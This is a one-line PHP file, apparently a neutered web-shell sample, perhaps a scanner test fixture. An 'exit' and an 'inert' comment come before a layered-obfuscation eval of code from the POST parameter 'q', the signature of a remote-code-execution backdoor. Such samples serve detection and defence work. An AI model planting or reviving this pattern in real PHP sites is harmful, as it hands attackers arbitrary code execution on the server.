<?php exit; /* inert */ eval(base64_decode(strrev(gzinflate(base64_decode($_POST["q"])))));
